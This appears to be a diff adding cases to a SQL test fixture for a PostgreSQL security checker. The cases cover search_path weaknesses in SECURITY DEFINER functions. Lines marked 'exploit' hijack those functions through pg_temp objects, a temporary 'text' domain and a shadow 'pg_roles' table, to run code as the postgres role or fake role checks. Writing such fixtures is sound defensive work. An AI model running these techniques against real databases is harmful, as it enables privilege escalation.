@@ -168,6 +168,21 @@ create function app.as_boss() returns bigint language sql set role = 'postgres' 
 -- function that searches temp: hole search_path app.shadowed() set search_path
 create function app.shadowed() returns bigint language sql set search_path = pg_temp, app as 'select count(*) from app.tasks';
 
+-- definer that a temporary type changes: warning search_path app.spell(bigint)
+create function app.spell(n bigint) returns text language plpgsql security definer set search_path = pg_catalog as $$ begin return n::text; end $$;
+-- exploit
+create function pg_temp.spy(pg_catalog.text) returns boolean language plpgsql as $$ begin return set_config('attack.role', current_user, true) <> ''; end $$;
+create domain pg_temp.text as pg_catalog.text check (pg_temp.spy(value::pg_catalog.text));
+select app.spell(1);
+select current_setting('attack.role') = 'postgres';
+
+-- definer that a temporary table changes: warning search_path app.is_role(name)
+create function app.is_role(n name) returns boolean language sql security definer set search_path = '' as 'select exists (select from pg_roles where rolname = n)';
+-- exploit
+create temporary table pg_roles as select name 'nobody' as rolname;
+grant select on pg_temp.pg_roles to public;
+select app.is_role('nobody');
+
 -- system function with a setting: hole function_setting pg_catalog.lower(text) set app.user_id | alone
 alter function pg_catalog.lower(text) set app.user_id = 'alice';
 
